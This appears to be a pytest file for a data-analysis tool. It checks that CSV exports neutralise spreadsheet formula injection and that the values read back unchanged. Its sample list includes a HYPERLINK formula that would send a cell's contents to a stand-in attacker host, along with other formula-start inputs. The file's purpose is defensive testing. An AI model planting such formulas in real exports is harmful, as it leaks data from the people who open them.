"""Formula neutralisation in the CSVs the analysis writes: a text cell a spreadsheet would
run (`=HYPERLINK(...)`, and cells starting with +, -, @, a tab or a carriage return) is
written with a leading single quote; numbers are left alone; reading back restores it."""
from __future__ import annotations

import csv

import pandas as pd

import spreadsheet
from analysis.cli import main

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+SUM(1)", "-2+3", "@A1",
        "\tTAB", "\rCR"]


def test_every_formula_start_is_neutralised_and_read_back():
    for cell in EVIL:
        assert spreadsheet.neutralise(cell) == "'" + cell
        assert spreadsheet.unquote(spreadsheet.neutralise(cell)) == cell
    for cell in ("plain", "'quoted", "", None, -1.5, 3):
        assert spreadsheet.neutralise(cell) == cell
    df = pd.DataFrame({"code": EVIL, "rt_ms": [-1.0, 2, 3, 4, 5, 6],
                       "cond": pd.Categorical(["=x", "a", "a", "a", "a", "a"])},
                      index=pd.Index(EVIL, name="label"))
    out = spreadsheet.neutralise_frame(df)
    assert list(out["code"]) == ["'" + c for c in EVIL]
    assert list(out.index) == ["'" + c for c in EVIL]
    assert list(out["cond"].astype(str)[:2]) == ["'=x", "a"]
    assert out["rt_ms"].tolist() == df["rt_ms"].tolist()  # numbers untouched
    assert list(df["code"]) == EVIL  # the input is not changed
    assert spreadsheet.neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]
    assert spreadsheet.neutralise_row({"a": "@b", "n": -3}) == {"a": "'@b", "n": -3}


def test_report_answers_csv_is_neutralised(tmp_path, kit):
    # The analysis strips the whitespace around an id (a tab or a carriage return at its
    # start does not survive the reading); the four others go through the export, the
    # analysis and the report's answers.csv.
    evils = [e for e in EVIL if not e[0].isspace()]
    assert len(evils) == 4
    rows = []
    for k in range(len(evils)):
        trial = f"t{k + 1:04d}"
        rows += kit.answer_rows(trial, [2, 1, 0, 0, 1], 1 + k % 5, population="lab",
                                condition=("random", "generic")[k % 2], participant_prefix="P")
    for j, row in enumerate(rows):
        row["participant"] = evils[j % len(evils)] + f"#{j}"
    # The admin export writes these cells neutralised; the analysis reads them back.
    export = tmp_path / "export.csv"
    spreadsheet.neutralise_frame(pd.DataFrame(rows)).to_csv(export, index=False)
    out = tmp_path / "report"
    assert main(["report", "--csv", str(export), "--out", str(out), "--dpi", "50",
                 "--bootstrap", "50"]) == 0
    with open(out / "answers.csv", newline="", encoding="utf-8") as fh:
        written = list(csv.DictReader(fh))
    assert len(written) == len(rows)
    assert {r["participant"][:2] for r in written} == {"'" + e[0] for e in evils}
    assert {spreadsheet.unquote(r["participant"]) for r in written} == \
        {row["participant"] for row in rows}
    assert all(float(r["rt_ms"]) > 0 for r in written)  # numbers stay numbers
    # No CSV of the report holds a cell a spreadsheet would run.
    for path in out.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            for line in csv.reader(fh):
                bad = [c for c in line if c.startswith(spreadsheet.FORMULA_START)
                       and not _number(c)]
                assert not bad, (path.name, bad[:3])


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False
